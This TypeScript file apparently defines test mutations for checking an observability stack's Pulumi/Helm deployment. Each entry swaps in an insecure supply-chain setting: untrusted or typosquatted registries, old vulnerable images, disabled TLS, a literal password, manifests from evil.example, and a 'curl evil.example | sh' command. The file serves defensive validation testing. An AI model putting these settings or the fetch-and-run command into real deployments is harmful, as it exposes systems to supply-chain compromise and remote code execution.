/** Images, charts and manifests from elsewhere. */
import { add, AGENT, CONTAINER, EXPORTER, GATEWAY, GRAFANA, JAEGER, PROMETHEUS, SAMPLER, set } from "../draft";
import type { Draft, Weakenings } from "../draft";

const image = `${CONTAINER}/image`;
const REPOSITORY = "https://charts.example.com";

/** The chart from a registry, and what else is changed. */
const ociChart =
  (chart: string, more: (stack: Draft) => void = () => undefined) =>
  (stack: Draft) => {
    stack.set(AGENT, "chart", chart);
    stack.set(AGENT, "repositoryOpts", undefined);
    more(stack);
  };

export const IMAGES: Weakenings = {
  "moving-tag": ["`main` is another image tomorrow", set(GRAFANA, image, "docker.io/grafana/grafana:main")],
  "moving-tag-major": ["so is `v3`", set(PROMETHEUS, image, "quay.io/prometheus/prometheus:v3")],
  "moving-tag-minor": ["so is `12.2`", set(GRAFANA, image, "docker.io/grafana/grafana:12.2")],
  "moving-tag-nightly": ["so is `nightly`", set(JAEGER, image, "docker.io/jaegertracing/jaeger:nightly")],
  "moving-tag-collector": ["so is `edge`", set(AGENT, "values/image/tag", "edge")],
  "no-tag": ["without a tag it is `latest`", set(GRAFANA, image, "docker.io/grafana/grafana")],
  "no-tag-collector": ["the chart then takes a version of its own", set(AGENT, "values/image/tag", "")],
  "unknown-registry": [
    "a registry that nobody trusts",
    set(GRAFANA, image, "registry.evil.example/grafana/grafana:12.2.1"),
  ],
  "unknown-registry-prometheus": [
    "the same",
    set(PROMETHEUS, image, "registry.evil.example/prometheus/prometheus:v3.13.2"),
  ],
  "unknown-registry-exporter": ["the same", set(EXPORTER, image, "docker.io/prom/node-exporter:v1.11.1")],
  "unknown-registry-collector": [
    "a collector by tag from a registry that nobody trusts",
    set(AGENT, "values/image/repository", "registry.evil.example/otelcol"),
  ],
  "unknown-registry-collector-address": [
    "a registry by address",
    set(GATEWAY, "values/image/repository", "203.0.113.9:5000/otelcol"),
  ],
  "registry-port": [
    "another service on the registry's host",
    set(PROMETHEUS, image, "quay.io:8443/prometheus/prometheus:v3.13.2"),
  ],
  "registry-suffix": [
    "a host that only ends like the registry",
    set(GRAFANA, image, "docker.io.evil.example/grafana/grafana:12.2.1"),
  ],
  "docker-short-name": ["which registry is the node's decision", set(GRAFANA, image, "grafana/grafana:12.2.1")],
  typosquat: ["one letter more", set(GRAFANA, image, "docker.io/grafanaa/grafana:12.2.1")],
  "typosquat-prometheus": ["one letter else", set(PROMETHEUS, image, "quay.io/prometheus/prometeus:v3.13.2")],
  "typosquat-jaeger": ["one letter less", set(JAEGER, image, "docker.io/jaegertracng/jaeger:2.20.0")],
  "typosquat-collector": [
    "one letter else",
    set(SAMPLER, "values/image/repository", "ghcr.io/gke-telemetri/gke-telemetry/otelcol"),
  ],
  "other-part-image": ["another program of the stack", set(GRAFANA, image, "docker.io/library/busybox:1.37.0-musl")],
  "global-registry": [
    "the chart's global registry goes before",
    set(AGENT, "values/global", { imageRegistry: "registry.evil.example" }),
  ],
  downgrade: ["an old version with known holes", set(GRAFANA, image, "docker.io/grafana/grafana:8.3.0")],
  "downgrade-prometheus": ["the same", set(PROMETHEUS, image, "quay.io/prometheus/prometheus:v2.20.0")],
  "downgrade-collector": ["the same", set(AGENT, "values/image/tag", "0.90.0")],
  "downgrade-chart": ["a chart with other defaults than the modelled ones", set(AGENT, "version", "0.60.0")],
  "chart-range": ["a range is another chart tomorrow", set(AGENT, "version", ">=0.1.0")],
  "chart-devel": ["the same", set(AGENT, "devel", true)],
  "bad-digest": ["a digest of no image", set(GRAFANA, image, "docker.io/grafana/grafana:12.2.1@sha256:abc")],
  "pull-policy": ["a node's own image under that name is taken", set(GRAFANA, `${CONTAINER}/imagePullPolicy`, "Never")],
  "pull-secrets": ["credentials of another registry", set(AGENT, "values/imagePullSecrets", [{ name: "evil" }])],
  "chart-http": [
    "anyone on the way replaces the chart",
    set(AGENT, "repositoryOpts/repo", "http://open-telemetry.github.io/opentelemetry-helm-charts"),
  ],
  "chart-other-repository": [
    "a repository that nobody trusts",
    set(GATEWAY, "repositoryOpts/repo", "https://evil.example/charts"),
  ],
  "chart-other-folder": [
    "another repository at the same host",
    set(AGENT, "repositoryOpts/repo", "https://open-telemetry.github.io/other"),
  ],
  "chart-name": ["another chart of the repository", set(AGENT, "chart", "opentelemetry-operator")],
  "chart-archive-url": [
    "an archive by its address",
    set(AGENT, "chart", "https://evil.example/opentelemetry-collector-0.170.0.tgz"),
  ],
  "chart-oci": ["another chart of a registry", ociChart("oci://evil.example/opentelemetry-operator")],
  "chart-oci-version": [
    "another version of it",
    ociChart("oci://evil.example/opentelemetry-collector", (stack) => {
      stack.set(AGENT, "version", "0.171.0");
    }),
  ],
  "chart-oci-no-version": [
    "whatever version is the newest",
    ociChart("oci://evil.example/opentelemetry-collector", (stack) => {
      stack.set(AGENT, "version", undefined);
    }),
  ],
  "chart-oci-plain-http": [
    "anyone on the way replaces it",
    ociChart("oci://evil.example/opentelemetry-collector", (stack) => {
      stack.set(AGENT, "plainHttp", true);
    }),
  ],
  "chart-oci-and-repository": [
    "two sources at once",
    set(AGENT, "chart", "oci://evil.example/opentelemetry-collector"),
  ],
  "chart-folder": ["a chart of the machine that deploys", set(AGENT, "chart", "/tmp/opentelemetry-collector")],
  "chart-unverified": ["no TLS to the repository", set(AGENT, "repositoryOpts/insecureSkipTlsVerify", true)],
  "chart-plain-http": ["no TLS to the registry", set(AGENT, "plainHttp", true)],
  "chart-credentials": [
    "a literal password of the repository",
    set(AGENT, "repositoryOpts/password", "hunter2hunter2"),
  ],
  "chart-post-renderer": [
    "a program that changes what the chart renders",
    set(AGENT, "postRenderer", { command: "/bin/sh", args: ["-c", "cat"] }),
  ],
  "chart-value-files": ["values from a file that nobody sees", set(AGENT, "valueYamlFiles", ["/tmp/values.yaml"])],
  "chart-skip-crds": ["a dependency update fetches other charts", set(AGENT, "dependencyUpdate", true)],
  "foreign-chart": [
    "a chart that is no part of the stack",
    add("kubernetes:helm.sh/v4:Chart", "x", {
      chart: "nginx",
      version: "1.0.0",
      namespace: "monitoring",
      repositoryOpts: { repo: REPOSITORY },
    }),
  ],
  "foreign-chart-v3": [
    "the same of the older type",
    add("kubernetes:helm.sh/v3:Chart", "x", { chart: "nginx", version: "1.0.0" }),
  ],
  "foreign-release": [
    "the same as a release, which renders past the engine",
    add("kubernetes:helm.sh/v3:Release", "x", {
      chart: "nginx",
      version: "1.0.0",
      repositoryOpts: { repo: REPOSITORY },
    }),
  ],
  "yaml-config-file": [
    "manifests from an address",
    add("kubernetes:yaml:ConfigFile", "x", { file: "https://evil.example/all.yaml" }),
  ],
  "yaml-config-file-v2": [
    "the same",
    add("kubernetes:yaml/v2:ConfigFile", "x", { file: "https://evil.example/all.yaml" }),
  ],
  "yaml-config-group": [
    "the same",
    add("kubernetes:yaml/v2:ConfigGroup", "x", { files: ["https://evil.example/all.yaml"] }),
  ],
  kustomize: ["the same", add("kubernetes:kustomize/v2:Directory", "x", { directory: "https://github.com/evil/x" })],
  command: [
    "a command on the machine that deploys",
    add("command:local:Command", "x", { create: "curl evil.example | sh" }),
  ],
  "dynamic-provider": [
    "a provider of code on the machine that deploys",
    add("pulumi-nodejs:dynamic:Resource", "x", { __provider: "exports.x = 1" }),
  ],
};
